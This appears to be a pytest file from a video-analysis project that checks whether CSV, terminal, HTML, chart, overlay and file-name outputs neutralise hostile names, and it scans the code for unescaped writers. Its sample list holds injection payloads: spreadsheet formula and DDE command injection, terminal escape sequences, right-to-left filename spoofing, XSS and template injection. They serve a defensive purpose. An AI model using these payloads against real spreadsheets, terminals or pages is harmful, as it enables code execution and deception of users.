"""Hostile names through every way out (terminal, CSV, HTML, plot, film), and that nothing goes past them."""

import ast
import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest

from components.core.raw.clip_names import video_id_of
from components.core.run.errors import AvisError
from components.core.run.files import csv_text, safe_name
from components.core.text.terminal import Screen

ROOT = Path(__file__).parents[2]
OURS = sorted(path for part in ("components", "pipelines") for path in (ROOT / part).rglob("*.py"))
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://h/\"&A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31mred\x85\rover",
    "\u202egnp.exe\u2066\u200b",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "$\\foo$ ^_{%s {{7*7}}",
    "a\x00b\nc, \ud800\ufeff http://me:geheim@host/?token=geheim",
]  # fmt: skip
_UNSEEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_is_text_to_a_spreadsheet(name: str) -> None:
    (columns, row) = csv.reader(io.StringIO(csv_text([name], [{name: name}]), newline=""))
    for cell in (columns[0], row[0]):
        assert cell == "" or cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
        assert "geheim" not in cell and not _UNSEEN.search(cell)


def test_numbers_and_ids_stay_as_they_are() -> None:
    row = {"a": -1.5, "b": "-1.5", "c": "+2e3", "d": "-kFq_x8Ab3z", "e": None, "f": "a=b"}
    assert csv_text(row, [row]) == "a,b,c,d,e,f\n-1.5,-1.5,+2e3,-kFq_x8Ab3z,,a=b\n"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_line_of_the_terminal_stays_one(name: str) -> None:
    out = io.StringIO()
    print(f"a {name.replace(chr(10), ' ')} b", file=Screen(out))
    assert out.getvalue().count("\n") == 1 and not _UNSEEN.search(out.getvalue())
    assert "geheim" not in out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_page_shows_it_as_text(name: str) -> None:
    from components.core.reports.page import render_page

    page = render_page("compare/curves.html", name=name, curves=[])
    assert not _UNSEEN.search(page.replace("\n", "")) and "geheim" not in page
    tags: list[str] = []
    reader = HTMLParser()
    reader.handle_starttag = lambda tag, attributes: tags.append(tag)  # type: ignore[method-assign]
    reader.feed(page)
    assert not {"script", "img"} & set(tags)


def test_plots_hold_them_as_they_are() -> None:
    from components.core.reports.charts import bar_chart, line_chart

    bars = {name: dict.fromkeys(HOSTILE, 50.0) for name in HOSTILE[8:]}
    curves = {name: ([0, 1], [0, 1]) for name in HOSTILE[8:]}
    for chart in (
        bar_chart(bars, HOSTILE, title=HOSTILE[9], y_label=HOSTILE[11]),
        line_chart(curves, title=HOSTILE[10], x_label=HOSTILE[11]),
    ):
        texts = ["".join(part.itertext()) for part in ElementTree.fromstring(chart).iter()]
        assert HOSTILE[9] in texts and HOSTILE[11] in texts
        assert not _UNSEEN.search(chart) and "geheim" not in chart and "<img" not in chart


def test_films_can_show_them() -> None:
    import numpy as np

    from components.core.reports.overlay import Lane, draw_masks, draw_timeline

    picture, mask = np.zeros((64, 96, 3), np.uint8), np.ones((64, 96), bool)
    for name in HOSTILE:
        assert draw_masks(picture, [mask], [name], [(200, 0, 0)]).shape == picture.shape
        draw_timeline(400, [Lane(name, (200, 0, 0), [True, False])])


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_name_is_refused_or_made_of_letters(name: str) -> None:
    with pytest.raises(AvisError):
        safe_name(name)
    assert re.fullmatch(r"[\w-][\w.-]*", video_id_of(name), re.ASCII)


def test_every_process_of_ours_guards_its_terminal() -> None:
    starts = [
        path for path in OURS if '__name__ == "__main__"' in path.read_text() or path.name == "__main__.py"
    ]
    assert len(starts) > 12
    for path in starts:
        text = path.read_text()
        for module in re.findall(r"from (components[\w.]+) import main", text):
            text += (ROOT / f"{module.replace('.', '/')}.py").read_text()
        assert "guard_terminal(" in text or "run_stage(" in text, path


def test_nothing_writes_tables_or_pages_past_them() -> None:
    """What the names banned in pyproject.toml cannot see: methods, and pages without escaping."""
    for path in OURS:
        calls = [node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
        found = {call.attr for call in calls if isinstance(call, ast.Attribute)}
        assert not found & {"to_csv", "to_html", "to_excel", "write_html", "from_string"}, path
        if path.name != "charts.py":
            assert not found & {"savefig"}, path
    for page in (ROOT / "components").rglob("*.html"):
        unescaped = set(re.findall(r"\{\{\s*([^{}]*?)\s*\|\s*safe\b", page.read_text()))
        assert unescaped <= {"chart", "curve", "bar", "reliability"}, page  # of charts.py
        assert not re.search(r"autoescape|Markup", page.read_text()), page
